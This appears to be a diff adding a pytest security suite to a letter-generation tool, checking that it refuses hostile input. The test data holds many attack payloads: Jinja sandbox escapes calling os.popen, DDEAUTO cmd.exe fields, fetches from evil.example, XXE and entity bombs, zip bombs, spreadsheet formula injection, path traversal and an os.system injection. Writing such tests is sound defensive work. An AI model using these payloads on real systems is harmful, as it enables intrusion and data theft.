@@ -1,0 +1,611 @@
+"""Attacks with real payloads: on the office through templates, prompts and answers, on readers through letters.
+
+What is promised here is written down in SECURITY.md, promise by promise.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import struct
+import zipfile
+from collections.abc import Callable
+from datetime import date
+from pathlib import Path
+from typing import Any
+
+import helpers.documents as word
+import pytest
+from helpers import ROOT
+from helpers.batches import save, vetted_library
+
+from letters._system.output import safe_stem
+from letters.assembly.assembler import Desk
+from letters.assembly.limits import within_limits
+from letters.assembly.template.template import Passages, Properties, Template, fill_text
+from letters.batches.pool import processes
+from letters.batches.rows import open_rows, text_writer
+from letters.cli.common import visible
+from letters.cli.main import main
+from letters.docx.package import NotAWordFile, Package, W, members_of, open_package, write_package
+from letters.docx.package import Packed as Member
+from letters.errors import InvalidAnswers, LettersError, LibraryAtFault, TemplateAtFault
+from letters.library.answers import parse_answers
+from letters.library.library import Library
+from letters.library.prompts import load_script
+from letters.pdf.convert import PageTemplate, print_letter
+
+Sample = Callable[[str], dict[str, Any]]
+PROPERTIES = Properties("Letter", "Office", "en-US", date(2019, 8, 2))
+DAY = date(2019, 8, 2)
+
+
+def fill(body: str, context: dict[str, Any] | None = None, **more: Any) -> bytes:
+    return Template.compile(word.docx(body, **more), "t.docx").fill(context or {}, PROPERTIES)
+
+
+def words_in(docx: bytes) -> str:
+    """What its body says, paragraphs and lines parted by spaces."""
+    root = open_package(docx, "l.docx").xml("word/document.xml")
+    return " ".join("".join(_said(node) for node in paragraph.iter()) for paragraph in root.iter(f"{{{W}}}p"))
+
+
+def _said(node: Any) -> str:
+    return {f"{{{W}}}t": node.text or "", f"{{{W}}}br": " ", f"{{{W}}}tab": " "}.get(node.tag, "")
+
+
+# --- templates cannot run code ---------------------------------------------------------------------------------------
+
+ESCAPES = [
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{{ x.__class__ }}",
+    "{{ x['__class__'] }}",
+    "{{ x|attr('__class__') }}",
+    "{{ x['__cla' + 'ss__'] }}",
+    "{{ self }}",
+    "{{ self.__init__.__globals__ }}",
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "{{ lipsum.__globals__['os'].popen('id').read() }}",
+    "{{ config }}",
+    "{{ request.application.__globals__ }}",
+    "{{ get_flashed_messages.__globals__ }}",
+    "{{ namespace(a=1) }}",
+    "{{ joiner()() }}",
+    "{{ range(999999999) }}",
+    "{{ dict(a=1) }}",
+    "{{ x.upper() }}",
+    "{{ x.format(x) }}",
+    "{{ '{0.__class__}'.format(x) }}",
+    "{{ '{0.__class__}' % x }}",
+    "{{ '%(a)s' % x }}",
+    "{{ x|map('upper') }}",
+    "{{ x|format(x) }}",
+    "{{ x|safe }}",
+    "{{ x|tojson }}",
+    "{{ x|xmlattr }}",
+    "{{ x|pprint }}",
+    "{{ x is filter('upper') }}",
+    "{{ x ~ x }}",
+    "{{ x ** 9999999 }}",
+    "{{ 9**9**9 }}",
+    "{{ 'a' * 999999999 }}",
+    "{{ x if x }}",
+    "{% set y = x %}",
+    "{% import 'os' as os %}",
+    "{% from '/etc/passwd' import x %}",
+    "{% include '/etc/passwd' %}",
+    "{% extends '/etc/passwd' %}",
+    "{% macro m() %}{% endmacro %}",
+    "{% call x() %}{% endcall %}",
+    "{% filter upper %}{% endfilter %}",
+    "{% with y = x %}{% endwith %}",
+    "{% raw %}{% endraw %}",
+    "{% do x %}",
+    "{% autoescape false %}{{ x }}{% endautoescape %}",
+    "{% block b %}{% endblock %}",
+    "{% for a in x recursive %}{{ loop(a) }}{% endfor %}",
+    "{% for a in x if a.__class__ %}{{ a }}{% endfor %}",
+    "{{ loop }}",
+    "{{ text__ }}",
+    "{{ x|rounds__ }}",
+    "{{ budget__ }}",
+    "{{ caller() }}",
+    "{{ _ }}",
+    "{{ __builtins__ }}",
+    "{{ True.__class__ }}",
+    "{{ (1).__class__ }}",
+    "{{ [].append }}",
+]
+
+
+@pytest.mark.parametrize("payload", ESCAPES)
+def test_a_template_cannot_run_code(payload: str) -> None:
+    with pytest.raises(TemplateAtFault) as refusal:
+        fill(word.paragraph(payload), {"x": "value"})
+    assert "body, paragraph 1" in str(refusal.value)
+    assert "Traceback" not in str(refusal.value)
+
+
+@pytest.mark.parametrize("payload", [each for each in ESCAPES if "_passwd" not in each])
+def test_a_text_of_the_office_cannot_run_code_either(payload: str) -> None:
+    with pytest.raises(TemplateAtFault, match=r"conditions\.toml"):
+        fill_text(payload, {"x": "value"}, "conditions.toml, term")
+
+
+@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "..\\x", "sig/../../x", "C:\\x", "nul", "sig\x00"])
+def test_a_passage_is_one_of_the_shared_folder_s_own(name: str) -> None:
+    asked: list[str] = []
+
+    def read(wanted: str) -> bytes:
+        asked.append(wanted)
+        raise AssertionError("read")
+
+    passages = Passages("shared", ("signature",), read)
+    shown = name.replace("\x00", "")
+    body = word.paragraph("{%p include “" + shown + "” %}") + word.paragraph("x")
+    with pytest.raises(TemplateAtFault):
+        Template.compile(word.docx(body), "t.docx", passages)
+    assert asked == []
+
+
+# --- nor go on for ever ----------------------------------------------------------------------------------------------
+
+MANY = ["a"] * 400
+
+
+@pytest.mark.parametrize(
+    ("payload", "context"),
+    [
+        ("{% for a in x %}{% for b in x %}{% for c in x %}z{% endfor %}{% endfor %}{% endfor %}", {"x": MANY}),
+        ("{% for a in x %}{{ y }}{% endfor %}", {"x": MANY, "y": "y" * 60_000}),
+        ("{{ y + y + y + y + y + y + y + y }}" * 20, {"y": "y" * 500_000}),
+        ("{{ x|join(y) }}", {"x": MANY * 50, "y": "b" * 100_000}),
+        ("{{ x|join(y)|length }}", {"x": MANY * 50, "y": "b" * 100_000}),
+    ],
+)
+def test_a_template_that_would_never_end_is_told_so(payload: str, context: dict[str, Any]) -> None:
+    with pytest.raises(TemplateAtFault, match=r"grows beyond any size|go round more than|not a list"):
+        fill(word.paragraph(payload), context)
+
+
+def spin(seconds: float) -> None:
+    with within_limits("The letter", seconds=seconds):
+        while True:
+            pass
+
+
+def test_a_letter_has_so_much_time_of_the_processor() -> None:
+    with pytest.raises(TemplateAtFault, match=r"more than 0\.2 seconds of the processor to make") as refusal:
+        spin(0.2)
+    assert refusal.value.problems[0].code == "beyond-time"
+    assert refusal.value.exit_code == 3
+
+
+def spin_within(outer: float) -> None:
+    with within_limits("The outer", seconds=outer):
+        with within_limits("The inner", seconds=30):
+            pass
+        with pytest.raises(TemplateAtFault, match="The letter"):
+            spin(0.1)
+        spin(30)
+
+
+def test_limits_within_limits_leave_those_around_them_in_force() -> None:
+    with pytest.raises(TemplateAtFault, match="as no letter does"):
+        spin_within(0.4)
+
+
+@pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="the system does not say how much memory is used")
+def test_a_letter_has_so_much_memory_and_the_next_one_has_it_again() -> None:
+    with pytest.raises(TemplateAtFault, match="64 MB of memory"), within_limits("The letter", megabytes=64):
+        b"x" * (200 * 1024 * 1024)
+    assert len(b"x" * (200 * 1024 * 1024)) > 0
+
+
+def test_the_limits_hold_in_the_workers_of_a_batch_which_live_on() -> None:
+    with processes([])(1) as executor:
+        for _ in range(2):
+            with pytest.raises(TemplateAtFault, match="of the processor"):
+                executor.submit(spin, 0.1).result(timeout=60)
+
+
+# --- nor fetch -------------------------------------------------------------------------------------------------------
+
+
+def simple_field(code: str) -> str:
+    return f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
+
+
+def field_of(*pieces: str) -> str:
+    codes = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
+    return (
+        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        field_of("INCLUDETEXT http://evil.example/x"),
+        field_of("INCLUDE", "TEXT http://evil.example/x"),
+        field_of(" I", "N", "CLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d"),
+        field_of("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"),
+        field_of("dde", " x y"),
+        field_of("DATABASE \\d x"),
+        field_of("RD c:\\\\x.docx"),
+        field_of("PRINT 27&quot;x&quot;"),
+        field_of("FILENAME \\p"),
+        field_of("USERNAME"),
+        field_of("HYPERLINK &quot;javascript:alert(1)&quot;"),
+        field_of("HYPERLINK &quot;file:///c:/windows/x.exe&quot;"),
+        field_of("HYPERLINK \\\\evil\\share").replace("HYPERLINK \\\\", "HYPERLINK smb://"),
+        field_of("{{ x }}"),
+        field_of(" {{ x }} http://evil.example"),
+        simple_field("LINK Excel.Sheet.8 c:\\\\x.xlsx"),
+        simple_field("{{ x }}"),
+    ],
+)
+def test_a_field_that_fetches_starts_or_tells_something_is_refused(body: str) -> None:
+    with pytest.raises(TemplateAtFault, match="field") as refusal:
+        fill(body, {"x": "INCLUDETEXT http://evil.example/x"})
+    assert {problem.code for problem in refusal.value.problems} <= {"outside"}
+
+
+def test_fields_that_count_and_refer_stay() -> None:
+    body = field_of("PAGE") + field_of("HYPERLINK &quot;https://www.dws.state.nm.us&quot;") + simple_field("NUMPAGES")
+    assert words_in(fill(body))
+
+
+def test_a_picture_from_outside_is_refused() -> None:
+    data = word.docx(word.paragraph(inner=word.picture()), pictures={"rIdPicture": word.PIXEL})
+    parts = dict(open_package(data, "t.docx").parts)
+    links = parts["word/_rels/document.xml.rels"].replace(
+        b'Target="media/rIdPicture.png"', b'Target="http://evil.example/x.png" TargetMode="External"'
+    )
+    changed = write_package(
+        Member.of(name, each) for name, each in (parts | {"word/_rels/document.xml.rels": links}).items()
+    )
+    with pytest.raises(TemplateAtFault, match="pulls in something from outside"):
+        Template.compile(changed, "t.docx")
+
+
+@pytest.fixture(scope="module")
+def page() -> tuple[str, str]:
+    folder = ROOT / "templates" / "page"
+    return (folder / "letter.html").read_text(encoding="utf-8"), (folder / "letter.css").read_text(encoding="utf-8")
+
+
+PLACES = ["{secret}", "http://127.0.0.1:9/x.png", "ftp://evil.example/x", "data:image/svg+xml;base64,PHN2Zy8+"]
+
+
+@pytest.mark.parametrize("place", PLACES)
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "body { background: url({place}) }",
+        "@font-face { font-family: x; src: url({place}) } body { font-family: x }",
+        "p::before { content: url({place}) }",
+        '</style><link rel="stylesheet" href="{place}"><style>',
+        '</style><link rel="attachment" href="{place}"><style>',
+        "</style><style>@import '{place}';",
+        '<a rel="attachment" href="{place}">',
+        '<img src="{place}" alt="">',
+        '<object data="{place}"></object>',
+        '<embed src="{place}">',
+    ],
+)
+def test_a_page_cannot_fetch(page: tuple[str, str], tmp_path: Path, payload: str, place: str) -> None:
+    secret = tmp_path / "secret.png"
+    secret.write_bytes(word.PIXEL)
+    wanted = payload.replace("{place}", place.replace("{secret}", secret.as_uri()))
+    html, css = page
+    if wanted.startswith("<") and "style>" not in wanted:
+        html = html.replace("$body", f"$body{wanted}")
+    elif wanted.startswith("<"):
+        html = html.replace("</head>", f"<style>{wanted}</style></head>")
+    else:
+        css += wanted
+    with pytest.raises(LibraryAtFault, match=r"something outside|could not be set|Failed"):
+        print_letter(word.docx(word.paragraph("Dear Sir")), name="l.docx", page=PageTemplate(html, css), dated=DAY)
+
+
+@pytest.mark.parametrize(
+    "place", ["javascript:app.alert(1)", "file:///etc/passwd", "\\\\evil\\share", "vbscript:x", "data:x,y"]
+)
+def test_a_link_of_a_letter_leads_to_the_web_or_nowhere(page: tuple[str, str], place: str) -> None:
+    body = word.paragraph(inner=f'<w:hyperlink r:id="rL">{word.text("here")}</w:hyperlink>')
+    printed = print_letter(word.docx(body, links={"rL": place}), name="l", page=PageTemplate(*page), dated=DAY)
+    assert b"/URI" not in printed.data
+    assert b"/Launch" not in printed.data
+    assert b"/JavaScript" not in printed.data
+    assert "left out" in printed.notes[0].message
+
+
+# --- answers cannot inject -------------------------------------------------------------------------------------------
+
+INJECTIONS = [
+    "{{ office.name }}",
+    "{% for x in y %}",
+    "{%p include 'signature' %}",
+    "{# #}",
+    "{{ ''.__class__ }}",
+    "</w:t></w:r></w:p><w:p><w:r><w:t>forged",
+    "<w:fldSimple w:instr='DDEAUTO c cmd'/>",
+    "<![CDATA[x]]>",
+    "]]>",
+    "<!-- x -->",
+    "<?xml version='1.0'?>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "&amp;lt;script&amp;gt;",
+    "<script>alert(1)</script>",
+    "<img src='file:///etc/passwd'>",
+    "</style><style>@import url(file:///etc/passwd)",
+    "${body} $title",
+    "{ INCLUDETEXT c:\\x }",
+    "=cmd|' /C calc'!A0",
+    "javascript:alert(1)",
+]
+
+
+@pytest.mark.parametrize("payload", INJECTIONS)
+def test_an_answer_is_words_and_nothing_else(desk: Desk, sample: Sample, payload: str) -> None:
+    answers = sample("denial")
+    answers["request"]["sought"] = f"the records {payload} of"
+    plain = desk.make(desk.check(sample("denial")), ["docx"]).files["docx"]
+    made = desk.make(desk.check(answers)).files
+    assert " ".join(f"the records {payload} of".split()) in " ".join(words_in(made["docx"]).split())
+    assert tags_of(made["docx"]) == tags_of(plain)
+    assert made["pdf"].startswith(b"%PDF")  # its words were compared with the Word letter's on the way
+    assert b"/JavaScript" not in made["pdf"]
+
+
+def tags_of(docx: bytes) -> list[tuple[str, int]]:
+    """How many elements of each sort a letter's parts have: words alone must not change it."""
+    package = open_package(docx, "l.docx")
+    found: dict[str, int] = {}
+    for part in package.parts:
+        if part.endswith((".xml", ".rels")):
+            for node in package.xml(part).iter():
+                found[str(node.tag)] = found.get(str(node.tag), 0) + 1
+    return sorted(found.items())
+
+
+def test_a_link_in_a_field_is_judged_as_it_came_out(tmp_path: Path) -> None:
+    """The address of a HYPERLINK field may come from an answer; the letter with a wicked one is not finished."""
+    from letters.privacy.scan import Gate
+
+    body = field_of("HYPERLINK &quot;{{ x }}&quot;")
+    assert Gate().pass_through(members_of(fill(body, {"x": "https://www.dws.state.nm.us"})), "l") == ()
+    for wicked in ("javascript:alert(1)", "file:///c:/x.exe", "smb://evil.example/x", "JaVaScRiPt:x"):
+        with pytest.raises(TemplateAtFault, match="no page of the web"):
+            Gate().pass_through(members_of(fill(body, {"x": wicked})), "l")
+    for quoted in ('x" \\o "y', "\\\\evil\\share"):
+        with pytest.raises(TemplateAtFault, match="field code"):
+            fill(body, {"x": quoted})
+
+
+FORMULAS = ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example","x")', "'=1", "''=1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_sheet_we_write_holds_a_formula(formula: str) -> None:
+    file = io.StringIO(newline="")
+    text_writer(file)([formula, "plain"])
+    cell = next(csv.reader(io.StringIO(file.getvalue())))[0]
+    assert cell[0] not in "=+-@\t\r"
+
+
+@pytest.mark.parametrize("form", ["csv", "xlsx"])
+def test_bad_rows_put_aside_hold_no_formula_and_come_back_as_they_were(tmp_path: Path, form: str) -> None:
+    from letters.batches.reports import BadRows
+
+    openpyxl = pytest.importorskip("openpyxl")
+    headings = ["reference", "=cmd|x"]
+    table = save(tmp_path / "rows.csv", [{"reference": each, "=cmd|x": "y"} for each in FORMULAS])
+    source = open_rows(str(table), lambda _: True)
+    rows = list(source.rows())
+    if form == "xlsx":
+        source = type(source)(source.name, "xlsx", source.headings, source.rows)
+    aside = BadRows(tmp_path / f"bad.{form}", source, keeps_row=False)
+    for row in rows:
+        aside.add(row)
+    aside.close()
+    if form == "xlsx":
+        sheet = openpyxl.load_workbook(tmp_path / "bad.xlsx").active
+        assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
+    else:
+        text = (tmp_path / "bad.csv").read_text(encoding="utf-8-sig")
+        assert not [cell for line in csv.reader(io.StringIO(text)) for cell in line if cell[:1] in "=+-@\t\r" and cell]
+    again = open_rows(str(tmp_path / f"bad.{form}"), lambda heading: heading in headings)
+    assert [row.cells[0] for row in again.rows()] == [row.cells[0] for row in rows]
+
+
+@pytest.mark.parametrize("escape", ["\x1b[2J", "\x1b]0;title\x07", "\x9b31m", "\u202egnp.exe", "\r", "\x08", "\u2066"])
+def test_nothing_said_to_a_terminal_acts_on_it(escape: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert escape not in visible(f"x{escape}y")
+    wicked = tmp_path / f"a{escape}b.toml"
+    wicked.write_text('kind = "denial"\nnonsense = 1\n', encoding="utf-8")
+    assert main(["fill", str(wicked), "--out", str(tmp_path / "out")]) == 1
+    said = capsys.readouterr()
+    assert escape not in said.err
+    assert "nonsense" in said.err
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../../etc/x",
+        "/etc/x",
+        "C:\\x",
+        "..",
+        ".",
+        "~",
+        "NUL",
+        "con.txt",
+        "a\x00b",
+        "a/b",
+        "\u202ex",
+        "-rf",
+        " x ",
+        "\n",
+    ],
+)
+def test_a_name_from_an_answer_stays_in_its_folder(name: str) -> None:
+    stem = safe_stem(name)
+    assert stem
+    assert set(stem) <= set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._-")
+    assert not stem.startswith((".", "-"))
+    assert stem.split(".")[0].lower() not in ("nul", "con", "aux", "prn")
+
+
+@pytest.mark.parametrize("kind", ["../denial", "/etc", "denial/../denial", "", ".", "nul", "denial\x00"])
+def test_a_kind_is_one_of_the_library_s(desk: Desk, sample: Sample, kind: str) -> None:
+    with pytest.raises(InvalidAnswers):
+        desk.check(sample("denial") | {"kind": kind})
+
+
+@pytest.mark.parametrize(
+    ("data", "name"),
+    [
+        (b"a = " + b"[" * 100_000, "a.toml"),
+        (b"[" * 100_000, "a.json"),
+        (b'{"a":' * 50_000, "a.json"),
+        (b"a." * 50_000 + b"b = 1", "a.toml"),
+        (b"a = " + b"9" * 10_000, "a.toml"),
+        (b"a = 1e999999999", "a.toml"),
+        (b"\xff\xfe\x00\x00", "a.toml"),
+        (b"a = 1\na = 2", "a.toml"),
+        (b'{"a": 1, "a": 2}', "a.json"),
+        (b'{"__proto__": {"x": 1}}', "a.json"),
+    ],
+)
+def test_an_answers_file_of_malice_ends_in_a_sentence(desk: Desk, data: bytes, name: str) -> None:
+    with pytest.raises(InvalidAnswers) as refusal:
+        desk.check(parse_answers(data, name))
+    assert len(str(refusal.value)) < 5_000
+
+
+# --- archives cannot escape, explode or name devices -----------------------------------------------------------------
+
+
+def archive(members: dict[str, bytes], **more: Any) -> bytes:
+    parts = dict(open_package(word.docx(word.paragraph("x")), "x").parts) | members
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in parts.items():
+            out.writestr(name, data)
+    return file.getvalue()
+
+
+@pytest.mark.parametrize(
+    "name", ["../x.xml", "/etc/x.xml", "word/../../x.xml", "..\\x.xml", "C:\\x.xml", "word\\x.xml", "word//../x.xml"]
+)
+def test_an_archive_cannot_escape(name: str) -> None:
+    with pytest.raises(NotAWordFile, match="unsafe name"):
+        open_package(archive({name: b"<x/>"}), "x.docx")
+
+
+@pytest.mark.parametrize("name", ["word/nul", "word/CON.xml", "word/aux.xml", "word/com1.xml", "lpt9"])
+def test_a_device_named_in_an_archive_is_never_a_file(name: str, tmp_path: Path) -> None:
+    """Nothing of an archive is ever unpacked onto a disk; and no letter carries what nothing leads to."""
+    made = Template.compile(archive({name: b"<x/>"}), "x.docx").fill({}, PROPERTIES)
+    assert name not in open_package(made, "x.docx").parts
+
+
+def test_an_archive_cannot_explode() -> None:
+    with pytest.raises(NotAWordFile, match="unpack to"):
+        open_package(archive({"word/bomb.xml": b" " * 60_000_000}), "x.docx")
+    with pytest.raises(NotAWordFile, match="parts"):
+        open_package(archive({f"word/{number}.xml": b"" for number in range(3_000)}), "x.docx")
+
+
+def test_a_size_that_lies_is_found_out() -> None:
+    data = archive({"word/bomb.xml": b" " * 30_000_000})
+    at = data.rindex(b"word/bomb.xml") - 46
+    lying = data[: at + 24] + struct.pack("<I", 10) + data[at + 28 :]
+    with pytest.raises(NotAWordFile):
+        open_package(lying, "x.docx")
+
+
+BOMB = (
+    b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'
+    b"<w>&c;</w>"
+)
+
+
+@pytest.mark.parametrize(
+    "xml",
+    [
+        BOMB,
+        b'<!DOCTYPE w SYSTEM "http://evil.example/x.dtd"><w/>',
+        b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>',
+        b"<?xml version='1.0'?>" + b"<!-- " + b"x" * 5_000 + b" -->" + BOMB,
+        BOMB.decode().encode("utf-16"),
+        b'<!DOCTYPE w [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]><w/>',
+    ],
+)
+def test_an_entity_is_never_expanded(xml: bytes) -> None:
+    with pytest.raises(NotAWordFile):
+        open_package(archive({"word/styles.xml": xml}), "x.docx").xml("word/styles.xml")
+
+
+@pytest.mark.parametrize("xml", [BOMB, b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]><w>&x;</w>'])
+def test_a_sheet_with_entities_reads_no_file(xml: bytes, tmp_path: Path) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    book = openpyxl.Workbook()
+    book.active.append(["reference"])
+    book.active.append(["x"])
+    path = tmp_path / "rows.xlsx"
+    book.save(path)
+    with zipfile.ZipFile(path) as old:
+        parts = {name: old.read(name) for name in old.namelist()}
+    sheet = parts["xl/worksheets/sheet1.xml"]
+    head = xml[: xml.index(b"<w>")].replace(b"DOCTYPE w", b"DOCTYPE worksheet")
+    parts["xl/worksheets/sheet1.xml"] = head + sheet[sheet.index(b"<worksheet") :].replace(b"<v>1</v>", b"<v>&x;</v>")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in parts.items():
+            out.writestr(name, data)
+    try:
+        cells = [row.cells for row in open_rows(str(path), lambda _: True).rows()]
+    except LettersError:
+        return
+    host = Path("/etc/hostname").read_text() if Path("/etc/hostname").exists() else "localhost"
+    assert host.strip() not in str(cells)
+
+
+def test_a_sheet_cannot_explode(tmp_path: Path) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    book = openpyxl.Workbook()
+    book.active.append(["reference"])
+    book.save(tmp_path / "small.xlsx")
+    with zipfile.ZipFile(tmp_path / "small.xlsx") as old:
+        parts = {name: old.read(name) for name in old.namelist()}
+    cell = b"<row r='2'><c t='inlineStr'><is><t>" + b"A" * 60_000_000 + b"</t></is></c></row></sheetData>"
+    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(b"</sheetData>", cell)
+    bomb = tmp_path / "bomb.xlsx"
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in parts.items():
+            out.writestr(name, data)
+    assert bomb.stat().st_size < 200_000
+    with pytest.raises(InvalidAnswers, match="would unpack to 57 MB"):
+        open_rows(str(bomb), lambda _: True)
+
+
+def test_a_letter_keeps_nothing_that_nothing_leads_to(tmp_path: Path) -> None:
+    wicked = {"word/vba.txt": b"x", "customXml/item1.xml": b"<secret/>", "evil.exe": b"MZ"}
+    made = open_package(Template.compile(archive(wicked), "x.docx").fill({}, PROPERTIES), "x.docx")
+    assert isinstance(made, Package)
+    assert not set(wicked) & set(made.parts)
+
+
+def test_a_library_whose_prompts_hold_code_is_only_read(tmp_path: Path) -> None:
+    library = vetted_library(tmp_path / "library")
+    file = library / "prompts" / "denial.toml"
+    text = file.read_text(encoding="utf-8")
+    file.write_text(
+        text.replace("ask = ", "when = \"__import__('os').system('touch owned')\"\nask = ", 1), encoding="utf-8"
+    )
+    with pytest.raises(LettersError):
+        load_script(Library(library), "denial")
+    assert not (tmp_path / "owned").exists()
